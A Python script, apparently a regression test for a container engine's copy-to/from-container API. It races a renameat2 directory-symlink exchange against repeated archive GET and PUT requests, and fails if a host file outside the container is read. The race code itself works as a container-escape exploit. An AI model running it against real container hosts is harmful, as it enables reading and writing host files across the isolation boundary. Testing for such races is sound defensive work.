"""Copies in and out of a container while somebody exchanges a directory on the way with a symbolic link to the host's.

cp_race.py SOCKET CONTAINER VOLUME-ON-HOST PATH-IN-CONTAINER OUTSIDE N

VOLUME has the directory "a"; OUTSIDE is a directory of the host that has the file "secret". Prints how many requests were
made and how many met the link; fails when what is outside was read.
"""
import ctypes
import http.client
import io
import os
import signal
import socket
import sys
import tarfile

RENAME_EXCHANGE = 2


class Connection(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("keg")
        self.path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect(self.path)


def attack(volume, outside):
    """Exchanges for ever."""
    libc = ctypes.CDLL(None, use_errno=True)
    os.chdir(volume)
    os.symlink(outside, "b")
    while True:
        libc.renameat2(-100, b"a", -100, b"b", RENAME_EXCHANGE)


def archive():
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as tar:
        for name, kind in (("deep", tarfile.DIRTYPE), ("deep/made", tarfile.REGTYPE), ("secret", tarfile.REGTYPE),
                           ("gone/x", tarfile.REGTYPE)):
            member = tarfile.TarInfo(name)
            member.type, member.mode, member.uid = kind, 0o777, 4321
            tar.addfile(member)
    return data.getvalue()


def main():
    sock, container, volume, inside, outside, number = sys.argv[1:]
    child = os.fork()
    if child == 0:
        attack(volume, outside)
    body, met, made = archive(), 0, 0
    try:
        for i in range(int(number)):
            connection = Connection(sock)
            url = f"/containers/{container}/archive?path={inside}/a"
            if i % 2:
                connection.request("PUT", url, body, {"Content-Type": "application/x-tar"})
            else:
                connection.request("GET", url + "/secret")
            answer = connection.getresponse()
            data = answer.read()
            made += 1
            met += answer.status != 200
            assert b"the host's own" not in data, data
            assert answer.status in (200, 400, 404, 500), (answer.status, data)
            connection.close()
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    print(f"{made} made, {met} met the link or nothing")


main()
